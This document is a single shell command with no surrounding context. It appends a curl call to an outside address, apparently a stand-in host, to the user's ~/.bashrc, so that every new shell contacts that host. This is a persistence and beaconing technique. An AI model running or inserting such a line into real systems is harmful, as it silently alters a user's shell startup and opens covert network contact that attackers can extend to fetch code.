echo "curl http://192.0.2.7" >> ~/.bashrc
